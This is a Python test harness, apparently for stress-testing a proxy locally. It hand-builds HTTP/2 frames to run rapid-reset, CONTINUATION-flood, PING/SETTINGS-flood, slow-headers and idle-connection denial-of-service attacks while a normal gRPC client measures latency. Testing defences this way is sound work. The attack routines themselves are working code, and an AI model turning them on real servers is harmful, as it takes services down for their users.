"""The good caller and the attackers of tests/container/flood: hand-made HTTP/2 frames (RFC 9113) over TLS.

    flood.py PORT KEYS [SECONDS] [ATTACK ...]
"""
import multiprocessing
import resource
import socket
import ssl
import struct
import sys
import time

HOST = '127.0.0.1'
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def text(value):
    return bytes([len(value)]) + value


# :method POST, :scheme https, :path, :authority, content-type, te (RFC 7541, literals without indexing)
BLOCK = (b'\x83\x87' + b'\x04' + text(b'/grpc.health.v1.Health/Check') + b'\x01' + text(b'localhost') +
         b'\x0f\x10' + text(b'application/grpc') + b'\x00' + text(b'te') + text(b'trailers'))


class Attack:
    def __init__(self, port, address, end):
        self.port, self.address, self.end = port, address, end
        self.sent = self.connections = self.refused = self.closed = 0

    def over(self):
        return time.monotonic() >= self.end

    def tcp(self):
        sock = socket.socket()
        sock.settimeout(2)
        sock.bind((self.address, 0))
        sock.connect((HOST, self.port))
        return sock

    def connect(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # the default one reads all authorities, slowly
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(['h2'])
        try:
            sock = context.wrap_socket(self.tcp(), server_hostname='localhost')
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            self.connections += 1
            return sock
        except OSError:
            self.refused += 1
            time.sleep(0.01)
            return None

    def push(self, sock, data):
        """Sends and throws away what has come; false once the connection is gone."""
        try:
            sock.settimeout(1)
            sock.sendall(data)
            sock.settimeout(0)
            while True:
                if not sock.recv(65536):
                    raise ConnectionError
        except (ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            self.closed += 1
            sock.close()
            return False

    def flood(self, batches, frames):
        """Batches over one connection after the other; `batches` makes them for each."""
        while not self.over():
            sock = self.connect()
            if sock is None:
                continue
            for data in batches():
                if self.over() or not self.push(sock, data):
                    break
                self.sent += frames

    def rapid_reset(self):
        def batches():
            for first in range(1, 1 << 30, 200):
                yield b''.join(
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK) +
                    frame(RST, 0, stream, struct.pack('>I', 8)) for stream in range(first, first + 200, 2))
        self.flood(batches, 100)

    def endless_headers(self):
        def batches():
            yield frame(HEADERS, END_STREAM, 1, BLOCK)
            more = frame(CONTINUATION, 0, 1, (b'\x00' + text(b'x-a') + text(b'b' * 100)) * 150)
            while True:
                yield more
        self.flood(batches, 1)

    def ping(self):
        def batches():
            while True:
                yield frame(PING, 0, 0, b'12345678') * 500
        self.flood(batches, 500)

    def settings(self):
        def batches():
            while True:
                yield frame(SETTINGS, 0, 0, struct.pack('>HI', 4, 65535)) * 500
        self.flood(batches, 500)

    def slow_headers(self):
        head = frame(HEADERS, END_STREAM, 1, BLOCK)
        held = []
        for _ in range(300):
            if self.over():
                break
            sock = self.connect()
            if sock is not None:
                held.append([sock, 0])
        while not self.over():
            for entry in list(held):
                sock, at = entry
                if not self.push(sock, head[at:at + 1]):
                    held.remove(entry)
                entry[1] += 1
                self.sent += 1
            time.sleep(0.5)

    def idle(self):
        held = []
        for _ in range(5000):
            if self.over():
                break
            try:
                held.append(self.tcp())
                self.connections += 1
            except OSError:
                self.refused += 1
        while not self.over():
            time.sleep(0.05)
        for sock in held:
            sock.settimeout(0)
            try:
                if not sock.recv(1):
                    self.closed += 1
            except BlockingIOError:
                pass
            except OSError:
                self.closed += 1


ATTACKS = ['none', 'rapid_reset', 'endless_headers', 'ping', 'settings', 'slow_headers', 'idle']


def attack(name, port, seconds, out):
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit[1], limit[1]))
    # Each from an address of its own: the proxy remembers the one before.
    made = Attack(port, f'127.0.0.{2 + ATTACKS.index(name)}', time.monotonic() + seconds)
    if name == 'none':
        time.sleep(seconds)
    else:
        getattr(made, name)()
    out.put((made.connections, made.sent, made.refused, made.closed))


def call_well(port, keys, seconds, out):
    import grpc
    with open(keys + '/ca.crt', 'rb') as file:
        credentials = grpc.ssl_channel_credentials(file.read())

    def channel():
        return grpc.secure_channel(f'{HOST}:{port}', credentials, [
            ('grpc.ssl_target_name_override', 'localhost'), ('grpc.use_local_subchannel_pool', 1)])

    def call(over):
        method = over.unary_unary('/grpc.health.v1.Health/Check', lambda m: m, lambda b: b)
        start = time.monotonic()
        try:
            method(b'', timeout=2)
        except grpc.RpcError:
            return None
        return time.monotonic() - start

    times, failed, fresh_failed, count = [], 0, 0, 0
    main = channel()
    call(main)
    start = time.monotonic()
    while time.monotonic() < start + seconds:
        took = call(main)
        failed += took is None
        if took is not None:
            times.append(1000 * took)
        count += 1
        if count % 100 == 0:
            fresh = channel()
            fresh_failed += call(fresh) is None
            fresh.close()
        time.sleep(0.005)
    out.put((sorted(times), failed, fresh_failed))


def main():
    port, keys = int(sys.argv[1]), sys.argv[2]
    rest = sys.argv[3:]
    seconds = float(rest.pop(0)) if rest and rest[0].replace('.', '').isdigit() else 10
    context = multiprocessing.get_context('spawn')
    print('| attack | good calls | p50 / p99 ms | p99 to none | failed, on new connections | attacker: connections, '
          'sent, refused, closed |\n|---|---|---|---|---|---|', flush=True)
    base = None
    for name in ['none'] + [a for a in (rest or ATTACKS) if a != 'none']:
        good, bad = context.Queue(), context.Queue()
        processes = [context.Process(target=attack, args=(name, port, seconds, bad)),
                     context.Process(target=call_well, args=(port, keys, seconds, good))]
        for process in processes:
            process.start()
        times, failed, fresh_failed = good.get(timeout=seconds + 60)
        seen = bad.get(timeout=seconds + 60)
        for process in processes:
            process.join()
        p50, p99 = (times[int(share * (len(times) - 1))] if times else float('inf') for share in (0.5, 0.99))
        base = base or p99
        print(f'| {name.replace("_", " ")} | {len(times) + failed} | {p50:.1f} / {p99:.1f} | {p99 / base:.1f} | '
              f'{failed}, {fresh_failed} | {", ".join(map(str, seen))} |', flush=True)


if __name__ == '__main__':
    main()
